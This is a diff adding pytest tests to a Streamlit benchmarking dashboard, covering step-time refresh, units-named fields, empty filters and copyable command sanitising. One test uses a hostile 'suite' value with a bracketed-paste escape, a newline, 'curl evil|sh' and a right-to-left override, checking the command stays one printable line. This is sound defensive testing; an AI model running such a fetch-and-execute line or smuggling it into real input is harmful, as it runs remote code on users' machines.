@@ -10,6 +10,7 @@ from streamlit.testing.v1 import AppTest
 
 from analytics import store
 from analytics.frame import frame
+from app import data
 from app.serve import TRACKING_URI
 from bench import stored, tracking
 from bench.record import Status
@@ -177,6 +178,38 @@ def test_files_and_step_times_are_read_once(open_page: Open, monkeypatch: pytest
     app.selectbox(key="open").select(f"{0:032x}").run()
     app.run()
     assert asked == [[], f"{0:032x}", []], "known are what has no step times too, and the files of the run"
+
+
+def test_step_times_that_were_absent_come_when_the_store_was_read_again(
+    open_page: Open, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(stored, "courses", lambda runs, uri=None: {})
+    app = open_page(GIVEN)
+    assert "steps" not in listed(app).columns
+    monkeypatch.setattr(stored, "courses", lambda runs, uri=None: {run: [1.0] for run in runs})
+    assert "steps" not in listed(app.run()).columns, "not asked for at each rerun"
+    data.refresh()
+    assert listed(app.run())["steps"].tolist() == [[1.0]] * 3
+    assert len(app.session_state["courses"]) == 3
+    app.multiselect(key="status").select("failed").run()
+    assert len(app.session_state["courses"]) == 1, "only those of the table are kept"
+
+
+def test_text_in_a_field_with_a_units_name(open_page: Open) -> None:
+    given = [GIVEN[0] | {"workload_args.limit_bytes": "10MB"}, GIVEN[1]]
+    assert "10MB" in listed(open_page(given, all="true"))["workload_args.limit_bytes"].tolist()
+
+
+def test_where_nothing_matches_no_runs_are_counted(open_page: Open) -> None:
+    assert "Shows" not in texts(open_page(GIVEN, where="devices = 99"))
+
+
+def test_a_command_to_copy_is_one_printable_line(open_page: Open) -> None:
+    evil = {"suite": "x\x1b[201~\ncurl evil|sh\n\u202e"}
+    app = open_page([GIVEN[0] | evil, GIVEN[1] | evil], run=f"{0:032x}", other=f"{1:032x}")
+    command = next(code.value for code in app.code if code.value.startswith("bench compare"))
+    assert command.isprintable()
+    assert command.startswith("bench compare 'x")
 
 
 def test_a_real_run(real_page: tuple[pd.DataFrame, Any]) -> None:
